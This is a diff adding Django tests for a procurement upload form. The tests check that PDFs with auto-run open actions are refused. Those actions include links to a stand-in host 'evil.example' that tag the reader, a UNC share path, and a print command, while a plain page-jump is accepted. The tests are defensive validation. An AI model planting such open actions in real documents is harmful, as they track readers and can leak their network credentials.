@@ -19,6 +19,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
+from pikepdf import Dictionary, Name
 
 from beneficiaries.hours.models import Statement
 from clauses.decp.models import FileReading
@@ -197,6 +198,37 @@ def test_to_fill_the_disk_by_what_is_refused_beside(
 def kept_in(storage: Path) -> set[Path]:
     """Return the contents that lie in a storage, whether a row names them or not."""
     return {path for path in storage.rglob("*") if path.is_file()}
+
+
+@pytest.mark.parametrize(
+    "opening",
+    [
+        {"/S": Name.URI, "/URI": "https://evil.example/?qui=nadia"},
+        {"/S": Name.GoTo, "/D": [0], "/Next": Dictionary(S=Name.URI, URI="https://evil.example/")},
+        {"/S": Name.Thread, "/F": "\\\\evil.example\\partage", "/D": 0},
+        {"/S": Name.Named, "/N": Name.Print},
+    ],
+    ids=["site", "site after a page", "share", "printer"],
+)
+def test_to_have_a_document_do_something_as_its_reader_opens_it(
+    world: World, browser: Attacker, opening: dict[str, Any]
+) -> None:
+    """A buyer’s piece that leads its reader to a site tells who opens it, and when."""
+    AdviceRequest.objects.filter(tender=world.own.draft).update(status="WITHDRAWN", decided_at=timezone.now())
+    piece = SimpleUploadedFile("plan.pdf", pdf("Plan", opening=opening))
+    form = {"submission": str(uuid4()), "piece_1": piece}
+    browser.acting(world.cast.buyer)
+    answer = browser.post(reverse("procurement:ask-advice-on", args=[world.own.draft.pk]), form)
+    assert (answer.status_code, "une action" in answer.said) == (422, True)
+
+
+def test_a_document_that_opens_on_one_of_its_pages_comes_through(world: World, browser: Attacker) -> None:
+    AdviceRequest.objects.filter(tender=world.own.draft).update(status="WITHDRAWN", decided_at=timezone.now())
+    piece = SimpleUploadedFile("plan.pdf", pdf("Plan", opening={"/S": Name.GoTo, "/D": [0, Name.Fit]}))
+    form = {"submission": str(uuid4()), "piece_1": piece}
+    browser.acting(world.cast.buyer)
+    answer = browser.post(reverse("procurement:ask-advice-on", args=[world.own.draft.pk]), form)
+    assert answer.status_code == 302
 
 
 def test_a_file_of_fifty_megabytes_is_told_its_weight(world: World, browser: Attacker) -> None:
